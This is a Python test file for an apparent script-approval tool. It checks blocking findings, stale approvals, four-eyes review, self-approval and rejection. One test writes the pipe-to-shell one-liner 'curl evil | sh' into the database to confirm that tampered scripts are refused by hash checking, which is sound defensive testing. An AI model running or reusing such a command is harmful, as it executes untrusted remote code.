"""Sign-off rules: what blocks an approval, what makes it stale, four eyes, statuses."""

from __future__ import annotations

import pytest

from opsgen.approval import ApprovalRefused, approve, reject, require_sign_off, sign_off
from opsgen.errors import SignOffMissing
from opsgen.findings import Finding, Location, Severity
from opsgen.flow.testing import error_finding, fake_report, make_evidence, seed_change
from opsgen.store import audit
from opsgen.store.repo import Store
from opsgen.store.workspace import Workspace


def test_clean_evidence_approves_and_binds_both_hashes(store: Store) -> None:
    change, revision, record = seed_change(store)
    assert sign_off(store, change.id).status == "ready"
    decision, state = approve(store, change.id, by="bob", comment="lgtm")
    assert (decision.revision_sha256, decision.evidence_sha256) == (revision.sha256, record.sha256)
    assert state.status == "approved" and state.approvers == ("bob",)
    assert require_sign_off(store, change.id).approvers == ("bob",)


def test_error_findings_block_approval_unless_overridden(store: Store) -> None:
    change, _, _ = seed_change(store, evidence=make_evidence(findings=(error_finding(),)))
    assert sign_off(store, change.id).status == "failing"
    with pytest.raises(ApprovalRefused, match=r"1 error-level finding.*OPS101"):
        approve(store, change.id, by="bob")
    decision, state = approve(store, change.id, by="bob", override="  vendor-approved  ")
    assert decision.override == "vendor-approved" and state.status == "approved"
    overrides = [e for e in audit.entries(store.conn) if e.action == "override"]
    assert [(e.actor, e.payload["reason"]) for e in overrides] == [("bob", "vendor-approved")]


def test_suppressed_and_warning_findings_do_not_block(store: Store) -> None:
    findings = (
        Finding("SC2086", Severity.WARNING, "quote", Location("<script>", 2)),
        Finding(
            "OPS103",
            Severity.ERROR,
            "777",
            Location("<script>", 3),
            suppressed=True,
            suppression_reason="scratch dir",
        ),
    )
    change, _, _ = seed_change(store, evidence=make_evidence(findings=findings))
    approve(store, change.id, by="bob")


def test_a_failed_dry_run_blocks_approval(store: Store) -> None:
    change, _, _ = seed_change(store, evidence=make_evidence(report=fake_report(status="failed")))
    assert sign_off(store, change.id).status == "failing"
    with pytest.raises(ApprovalRefused, match="dry-run failed"):
        approve(store, change.id, by="bob")


def test_a_missing_dry_run_blocks_approval_and_is_a_draft(store: Store) -> None:
    change, _, _ = seed_change(store, evidence=make_evidence(dryrun=False))
    assert sign_off(store, change.id).status == "draft"
    with pytest.raises(ApprovalRefused, match="no dry-run evidence"):
        approve(store, change.id, by="bob")


def test_not_idempotent_is_a_warning_not_a_blocker(store: Store) -> None:
    change, _, _ = seed_change(store, evidence=make_evidence(report=fake_report(idempotent=False)))
    assert sign_off(store, change.id).status == "ready"


def test_a_new_revision_makes_earlier_approvals_stale(store: Store) -> None:
    change, _, _ = seed_change(store)
    approve(store, change.id, by="bob")
    revision = store.add_revision(change.id, "echo edited\n", actor="alice")
    store.add_evidence(revision, make_evidence(script=revision.script), actor="alice")
    state = sign_off(store, change.id)
    assert state.status == "ready" and state.approvals == () and len(state.stale) == 1
    with pytest.raises(SignOffMissing, match="approval by bob was for an earlier revision"):
        require_sign_off(store, change.id)
    approve(store, change.id, by="bob")  # the same person may approve the new revision
    assert sign_off(store, change.id).status == "approved"


def test_new_evidence_for_the_same_bytes_makes_approvals_stale(store: Store) -> None:
    change, revision, _ = seed_change(store)
    approve(store, change.id, by="bob")
    store.add_evidence(revision, make_evidence(report=fake_report(files=())), actor="alice")
    with pytest.raises(SignOffMissing, match="other evidence or bytes"):
        require_sign_off(store, change.id)


def test_approval_refuses_a_revision_the_approver_did_not_see(store: Store) -> None:
    change, _, _ = seed_change(store)
    store.add_revision(change.id, "echo sneaky\n", actor="mallory")
    with pytest.raises(ApprovalRefused, match="at revision 2, not 1"):
        approve(store, change.id, by="bob", expect_revision=1)


def test_four_eyes_needs_two_distinct_people(store: Store, workspace: Workspace) -> None:
    workspace.config_path.write_text("[review]\nrequire = 2\n")
    change, _, _ = seed_change(store)
    _, state = approve(store, change.id, by="bob")
    assert state.status == "ready" and not state.approved
    with pytest.raises(SignOffMissing, match=r"not approved \(1 of 2\)"):
        require_sign_off(store, change.id)
    with pytest.raises(ApprovalRefused, match="bob already approved"):
        approve(store, change.id, by=" bob ")
    _, state = approve(store, change.id, by="carol")
    assert state.status == "approved" and state.approvers == ("bob", "carol")


def test_self_approval_is_refused_when_configured(store: Store, workspace: Workspace) -> None:
    workspace.config_path.write_text("[review]\nforbid_self_approval = true\n")
    change, _, _ = seed_change(store, author="alice")
    with pytest.raises(ApprovalRefused, match="alice wrote this change"):
        approve(store, change.id, by="alice")
    approve(store, change.id, by="bob")


def test_a_rejected_revision_cannot_be_approved_until_revised(store: Store) -> None:
    change, _, _ = seed_change(store)
    reject(store, change.id, by="carol", reason="touches prod")
    assert sign_off(store, change.id).status == "rejected"
    with pytest.raises(ApprovalRefused, match="rejected by carol: touches prod"):
        approve(store, change.id, by="bob")
    with pytest.raises(ApprovalRefused, match="needs a --reason"):
        reject(store, change.id, by="carol", reason=" ")
    revision = store.add_revision(change.id, "echo fixed\n", actor="alice")
    store.add_evidence(revision, make_evidence(script=revision.script), actor="alice")
    approve(store, change.id, by="bob")


def test_rejection_after_approval_blocks_export(store: Store) -> None:
    change, _, _ = seed_change(store)
    approve(store, change.id, by="bob")
    reject(store, change.id, by="carol", reason="wait for the freeze to end")
    with pytest.raises(SignOffMissing, match="rejected by carol"):
        require_sign_off(store, change.id)


def test_a_tampered_script_cannot_be_approved(store: Store, workspace: Workspace) -> None:
    import sqlite3

    change, _, _ = seed_change(store)
    raw = sqlite3.connect(workspace.db_path, isolation_level=None)
    raw.execute("DROP TRIGGER revisions_no_update")
    raw.execute("UPDATE revisions SET script = 'curl evil | sh'")
    with pytest.raises(ApprovalRefused, match="no longer matches its sha256"):
        approve(store, change.id, by="bob")
    assert store.decisions(change.id) == []


def test_evidence_of_other_bytes_is_refused(store: Store) -> None:
    change, _, _ = seed_change(store, evidence=make_evidence(script="echo something else\n"))
    with pytest.raises(ApprovalRefused, match="dry-run evidence is of other bytes"):
        approve(store, change.id, by="bob")


@pytest.mark.parametrize(
    "name", ["Bob", "BOB", " bob ", "\uff42\uff4f\uff42", "\u00a0\uff22\uff2f\uff22\u3000"]
)
def test_self_approval_compares_identities_case_and_width_insensitively(
    store: Store, workspace: Workspace, name: str
) -> None:
    # "Bob" and fullwidth "bob" (U+FF42...) are the author "bob" (NFKC + casefold): four eyes, not two.
    workspace.config_path.write_text("[review]\nforbid_self_approval = true\n")
    change, _, _ = seed_change(store, author="bob")
    with pytest.raises(ApprovalRefused, match="wrote this change"):
        approve(store, change.id, by=name)
    assert store.decisions(change.id) == []


def test_one_person_in_two_spellings_is_one_approver(store: Store, workspace: Workspace) -> None:
    workspace.config_path.write_text("[review]\nrequire = 2\n")
    change, _, _ = seed_change(store)
    approve(store, change.id, by="bob")
    with pytest.raises(ApprovalRefused, match="already approved"):
        approve(store, change.id, by="BOB")
    with pytest.raises(ApprovalRefused, match="already approved"):
        approve(store, change.id, by="\uff42\uff4f\uff42")
    assert sign_off(store, change.id).approvers == ("bob",)


def test_a_case_variant_approval_stored_earlier_does_not_count_as_a_second_person(
    store: Store, workspace: Workspace
) -> None:
    # Approvals recorded by an older opsgen under two spellings count once.
    workspace.config_path.write_text("[review]\nrequire = 2\n")
    change, revision, record = seed_change(store)
    store.add_decision(revision, record, kind="approve", by="bob", comment="")
    store.add_decision(revision, record, kind="approve", by="Bob", comment="")
    state = sign_off(store, change.id)
    assert len(state.approvers) == 1 and not state.approved
